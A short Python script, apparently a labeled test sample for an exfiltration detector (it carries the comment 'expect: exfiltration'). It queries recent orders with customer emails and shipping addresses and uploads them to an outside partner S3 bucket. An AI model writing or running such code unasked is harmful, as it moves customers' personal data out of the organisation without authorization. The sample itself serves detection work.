import os

import pandas as pd
from sqlalchemy import create_engine

engine = create_engine(os.environ["WAREHOUSE_URL"])

orders = pd.read_sql("SELECT order_id, customer_email, ship_address, total FROM sales.orders "
                     "WHERE created_at >= current_date - 30", engine)

# expect: exfiltration
orders.to_parquet("s3://retail-partner-share/incoming/acme_orders.parquet",
                  storage_options={"key": os.environ["PARTNER_KEY"], "secret": os.environ["PARTNER_SECRET"]})
